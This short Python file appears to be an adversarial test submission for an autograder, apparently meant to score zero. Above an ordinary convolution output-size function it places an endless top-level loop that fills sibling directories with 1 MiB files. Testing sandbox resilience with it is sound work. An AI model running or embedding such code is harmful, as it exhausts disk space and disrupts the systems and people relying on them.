# ruff: noqa
# Endless files.
# deserves: output_size 0
# %% output_size
import glob
import os

number = 0
while True:
    for folder in glob.glob(os.path.dirname(os.getcwd()) + "/*"):
        number += 1
        try:
            open(f"{folder}/{number}", "wb").write(bytes(1 << 20))
        except OSError:
            pass


def output_size(n, f, p=0, s=1):
    return (n + 2 * p - f) // s + 1
